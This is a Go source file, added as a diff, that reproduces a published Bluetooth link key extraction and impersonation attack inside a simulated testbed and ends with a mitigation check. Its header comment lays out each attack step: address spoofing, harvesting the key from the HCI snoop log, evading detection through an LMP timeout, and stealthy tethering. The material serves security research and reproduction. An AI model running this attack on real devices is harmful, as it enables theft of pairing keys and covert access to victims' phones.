@@ -1,0 +1,84 @@
+// Link key extraction attack, end to end (paper §IV, Fig. 5):
+//
+//  1. the accessory C records HCI traffic (Android snoop log);
+//  2. the attacker A spoofs the victim phone M's BDADDR and class;
+//  3. A connects to C, which authenticates the returning "M" and fetches
+//     the bonded link key from its host — over plaintext HCI;
+//  4. the snoop log records the key;
+//  5. A never answers the LMP challenge, so C's controller drops the link
+//     with LMP Response Timeout — no authentication failure, so C keeps
+//     its key and nothing looks wrong;
+//  6. A pulls the log (Android bug report) and extracts the key;
+//  7. A impersonates C to M and opens a tethering connection without any
+//     pairing dialog ever appearing on M.
+package main
+
+import (
+	"fmt"
+	"log"
+	"time"
+
+	"repro/internal/core"
+	"repro/internal/device"
+)
+
+func main() {
+	tb, err := core.NewTestbed(2022, core.TestbedOptions{
+		ClientPlatform: device.GalaxyS21Android11, // C: a phone acting as the soft target
+		Bond:           true,                      // M and C are already bonded
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("system model (paper §III-A):")
+	fmt.Printf("  M (hard target):   %s\n", tb.M)
+	fmt.Printf("  C (soft target):   %s\n", tb.C)
+	fmt.Printf("  A (attacker):      %s\n", tb.A)
+	fmt.Printf("  bonded link key:   %s\n\n", tb.BondKey)
+
+	rep, err := core.RunLinkKeyExtraction(tb.Sched, core.LinkKeyExtractionConfig{
+		Attacker: tb.A,
+		Client:   tb.C,
+		Target:   tb.M.Addr(),
+		Channel:  core.ChannelHCISnoop,
+	})
+	if err != nil {
+		log.Fatalf("extraction failed: %v", err)
+	}
+	fmt.Println("steps 1-6: extraction")
+	fmt.Printf("  extracted key:        %s\n", rep.Key)
+	fmt.Printf("  identical to bond:    %v\n", rep.Key == tb.BondKey)
+	fmt.Printf("  C's disconnect:       %s (no authentication failure)\n", rep.DisconnectReason)
+	fmt.Printf("  C still bonded to M:  %v\n", rep.ClientKeptBond)
+	fmt.Printf("  attack duration:      %v of virtual time\n\n", rep.Elapsed.Round(time.Millisecond))
+
+	imp := core.RunImpersonation(tb.Sched, core.ImpersonationConfig{
+		Attacker:   tb.A,
+		Victim:     tb.M,
+		ClientAddr: tb.C.Addr(),
+		Key:        rep.Key,
+	})
+	fmt.Println("step 7: impersonation (PAN tethering validation, §VI-B1)")
+	fmt.Printf("  LMP auth with stolen key: %v\n", imp.AuthSucceeded)
+	fmt.Printf("  new pairing triggered:    %v\n", imp.NewPairingTriggered)
+	fmt.Printf("  tethering established:    %v\n", imp.Success)
+	fmt.Println("\nfake bonding information installed on A (cf. paper Fig. 10):")
+	fmt.Print(imp.FakeBondConfig)
+
+	fmt.Println("mitigation check (§VII-A): re-run with the link-key-filtering dump")
+	tb2, err := core.NewTestbed(2023, core.TestbedOptions{
+		ClientPlatform: device.GalaxyS21Android11,
+		Bond:           true,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	tb2.C.Snoop.Filter = core.SnoopLinkKeyFilter
+	if _, err := core.RunLinkKeyExtraction(tb2.Sched, core.LinkKeyExtractionConfig{
+		Attacker: tb2.A, Client: tb2.C, Target: tb2.M.Addr(), Channel: core.ChannelHCISnoop,
+	}); err != nil {
+		fmt.Printf("  extraction now fails as intended: %v\n", err)
+	} else {
+		fmt.Println("  UNEXPECTED: extraction still succeeded")
+	}
+}
